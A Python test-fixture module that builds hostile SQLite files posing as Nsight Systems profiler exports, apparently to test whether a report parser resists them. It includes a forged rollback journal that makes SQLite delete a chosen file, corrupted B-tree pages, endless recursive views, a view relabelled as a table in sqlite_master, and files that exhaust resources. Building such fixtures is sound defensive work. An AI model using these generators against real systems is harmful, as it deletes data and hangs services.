"""Exports of Nsight Systems made to delete files, to run programs or to take long."""

from __future__ import annotations

import sqlite3
import struct
from collections.abc import Callable, Mapping
from contextlib import closing
from pathlib import Path

from sample_data.nsight_report import ReportTables, global_pid, training

CANARIES = "canaries"
"""The folder beside an attack's input; no attack may change it."""

_PAGE_BYTES = 4096
_JOURNAL = bytes.fromhex("d9d505f920a163d7")
_PENDING_BYTE = 0x4000_0000
_ENDLESS = "WITH RECURSIVE n(start) AS (SELECT 1 UNION ALL SELECT start + 1 FROM n)"


def write_journal(report: Path, victim: Path) -> None:
    """Write a journal after which SQLite deletes a file, as if it were of several databases."""
    head = struct.pack(">8sIIIII", _JOURNAL, 1, 0, 1, 512, _PAGE_BYTES).ljust(512, b"\0")
    page = report.read_bytes()[:_PAGE_BYTES]
    checksum = sum(page[at] for at in range(_PAGE_BYTES - 200, 0, -200))
    record = struct.pack(">I", 1) + page + struct.pack(">I", checksum & 0xFFFF_FFFF)
    name = str(victim).encode()
    lock_page = struct.pack(">I", _PENDING_BYTE // _PAGE_BYTES + 1)
    end = lock_page + name + struct.pack(">II", len(name), sum(name)) + _JOURNAL
    report.with_name(report.name + "-journal").write_bytes(head + record + end)


def _report(folder: Path, *statements: str) -> Path:
    """Write a report and run statements in it; the list of tables may be written, too."""
    path = training().write(folder / "run.sqlite")
    with closing(sqlite3.connect(path)) as writer:
        writer.isolation_level = None
        writer.execute("PRAGMA writable_schema = ON")
        writer.execute("BEGIN")
        for statement in statements:
            writer.execute(statement)
        writer.execute("COMMIT")
    return path


def _schema_first(folder: Path, *statements: str) -> Path:
    """Write a report whose tables come before many statements.

    What is created later lies far behind in the file, where nobody looks for whose file it is.
    """
    path = folder / "run.sqlite"
    tables = training().tables()
    with closing(sqlite3.connect(path, isolation_level=None)) as writer:
        writer.execute("BEGIN")
        for table, (columns, _) in tables.items():
            writer.execute(f"CREATE TABLE {table} ({', '.join(columns)})")
        for statement in statements:
            writer.execute(statement)
        for table, (columns, rows) in tables.items():
            writer.executemany(f"INSERT INTO {table} VALUES ({'?, ' * (len(columns) - 1)}?)", rows)
        writer.execute("COMMIT")
    return path


def nsight_journal(folder: Path) -> Path:
    path = _report(folder)
    write_journal(path, folder.parent / CANARIES / "kept.txt")
    return path


def nsight_journal_in_a_folder(folder: Path) -> Path:
    nsight_journal(folder)
    training().write(folder / "whole.sqlite")
    return folder


def nsight_endless_view(folder: Path) -> Path:
    return _report(
        folder,
        "DROP TABLE NVTX_EVENTS",
        f"CREATE VIEW NVTX_EVENTS AS {_ENDLESS} "
        "SELECT start, start + 1 AS end, 59 AS eventType, 'x' AS text FROM n",
    )


def nsight_view_called_a_table(folder: Path) -> Path:
    """A row of the list of tables whose name, type and statement say different things."""
    return _report(
        folder,
        "DROP TABLE MPI_RANKS" if "MPI_RANKS" in training().rows else "SELECT 1",
        f"CREATE VIEW MPI_RANKS AS {_ENDLESS} SELECT start AS globalTid, 1 AS rank FROM n",
        "UPDATE sqlite_master SET type = 'table', rootpage = 2 WHERE name = 'MPI_RANKS'",
    )


def nsight_views_of_pairs(folder: Path) -> Path:
    """Views that each join the one before with itself: to describe the last takes 2^40 steps."""
    views = ["CREATE VIEW v0 AS SELECT 1 AS start"]
    views += [
        f"CREATE VIEW v{n} AS SELECT a.start FROM v{n - 1} a, v{n - 1} b" for n in range(1, 200)
    ]
    return _schema_first(folder, *views, "CREATE VIEW MPI_RANKS AS SELECT * FROM v40")


def nsight_computed_column(folder: Path) -> Path:
    slow = "length(replace(hex(zeroblob(400000)), '0', 'xx'))"
    return _report(
        folder,
        "DROP TABLE NVTX_EVENTS",
        f"CREATE TABLE NVTX_EVENTS (start, end, globalTid, text, eventType AS ({slow}))",
        "INSERT INTO NVTX_EVENTS (start, end) SELECT start, end FROM CUPTI_ACTIVITY_KIND_KERNEL",
        f"CREATE INDEX slow ON CUPTI_ACTIVITY_KIND_KERNEL ({slow.replace('400000', 'start')})"
        " WHERE start < 0",
    )


def nsight_recursive_trigger(folder: Path) -> Path:
    return _report(
        folder,
        "CREATE TRIGGER t AFTER UPDATE ON NVTX_EVENTS BEGIN DELETE FROM NVTX_EVENTS; END",
        "CREATE VIRTUAL TABLE words USING fts5(text)",
    )


def nsight_looped_pages(folder: Path) -> Path:
    """The pages of the kernels are named thousands of times by one page above them, in a loop."""
    path = _report(folder)
    with closing(sqlite3.connect(path)) as reader:
        query = "SELECT rootpage FROM sqlite_master WHERE name = 'CUPTI_ACTIVITY_KIND_KERNEL'"
        (root,) = reader.execute(query).fetchone()
    content = bytearray(path.read_bytes())
    at = (root - 1) * _PAGE_BYTES
    first = content[at + 8 : at + 12]
    n_cells = 500
    cells = b"".join(
        (struct.pack(">I", root) if n % 2 else content[at + 4096 - 8 : at + 4096 - 4] or first)
        + b"\x01"
        for n in range(n_cells)
    )
    starts = _PAGE_BYTES - len(cells)
    head = struct.pack(">BHHHBI", 5, 0, n_cells, starts, 0, root)
    pointers = b"".join(struct.pack(">H", starts + 5 * n) for n in range(n_cells))
    page = (head + pointers).ljust(starts, b"\0") + cells
    content[at : at + _PAGE_BYTES] = page[:_PAGE_BYTES]
    path.write_bytes(content)
    return path


def nsight_shared_overflow(folder: Path) -> Path:
    """Rows that are all the same cell, whose type stands behind a text of a megabyte."""
    path = folder / "run.sqlite"
    with closing(sqlite3.connect(path)) as writer:
        writer.execute(f"PRAGMA page_size = {_PAGE_BYTES}")
        writer.execute("CREATE TABLE StringIds (id, value)")
        writer.execute("CREATE TABLE NVTX_EVENTS (text, start, end, eventType, globalTid)")
        row = ("x" * 1_000_000, 3, 5, 77, global_pid(1) + 1)
        writer.execute("INSERT INTO NVTX_EVENTS VALUES (?, ?, ?, ?, ?)", row)
        writer.commit()
        query = "SELECT rootpage FROM sqlite_master WHERE name = 'NVTX_EVENTS'"
        (root,) = writer.execute(query).fetchone()
    content = bytearray(path.read_bytes())
    at = (root - 1) * _PAGE_BYTES
    (start,) = struct.unpack(">H", content[at + 8 : at + 10])
    n_cells = 600  # SQLite allows 681 in a page
    leaf = b"\x0d" + struct.pack(">HHHB", 0, n_cells, start, 0) + struct.pack(">H", start) * n_cells
    content[at : at + start] = leaf.ljust(start, b"\0")
    leaves = 500
    first = len(content) // _PAGE_BYTES + 1
    content += bytes(content[at : at + _PAGE_BYTES]) * leaves
    cells = b"".join(struct.pack(">IB", first + n, 1) for n in range(leaves - 1))
    head = struct.pack(">BHHHBI", 5, 0, leaves - 1, _PAGE_BYTES - len(cells), 0, first + leaves - 1)
    places = range(_PAGE_BYTES - len(cells), _PAGE_BYTES, 5)
    page = head + b"".join(struct.pack(">H", place) for place in places)
    content[at : at + _PAGE_BYTES] = page.ljust(_PAGE_BYTES - len(cells), b"\0") + cells
    content[28:32] = struct.pack(">I", len(content) // _PAGE_BYTES)
    path.write_bytes(content)
    return path


def nsight_thousand_processes(folder: Path) -> Path:
    report = ReportTables()
    name = report.text("gemm")
    for process in range(1_000):
        for number in range(10):
            start_ns = 5_000_000_000 + 1_000 * number
            report.add(
                "CUPTI_ACTIVITY_KIND_KERNEL", start=start_ns, end=start_ns + 400, deviceId=0,
                streamId=7, correlationId=number, globalPid=global_pid(process + 1),
                demangledName=name,
            )  # fmt: skip
    return report.write(folder / "run.sqlite")


def nsight_thousand_tables(folder: Path) -> Path:
    return _schema_first(folder, *[f"CREATE TABLE t{n} (a, b, c)" for n in range(5_000)])


def nsight_many_columns(folder: Path) -> Path:
    columns = ", ".join(f"c{n}" for n in range(2_000))
    return _schema_first(folder, *[f"CREATE TABLE t{n} ({columns})" for n in range(200)])


def nsight_thousand_indexes(folder: Path) -> Path:
    indexes = [f"CREATE INDEX i{n} ON StringIds (id, value, id + {n})" for n in range(1_000)]
    return _schema_first(folder, *indexes)


def nsight_long_statement(folder: Path) -> Path:
    checks = " AND ".join(["(a > 1)"] * 100_000)
    return _report(
        folder,
        "CREATE TABLE t (a)",
        f"UPDATE sqlite_master SET sql = 'CREATE TABLE t (a CHECK ({checks}))' WHERE name = 't'",
    )


NSIGHT_ATTACKS: Mapping[str, Callable[[Path], Path]] = {
    attack.__name__: attack
    for attack in (
        nsight_journal, nsight_journal_in_a_folder, nsight_endless_view,
        nsight_view_called_a_table, nsight_views_of_pairs, nsight_computed_column,
        nsight_recursive_trigger, nsight_looped_pages, nsight_thousand_processes,
        nsight_thousand_tables, nsight_many_columns, nsight_thousand_indexes,
        nsight_long_statement, nsight_shared_overflow,
    )
}  # fmt: skip
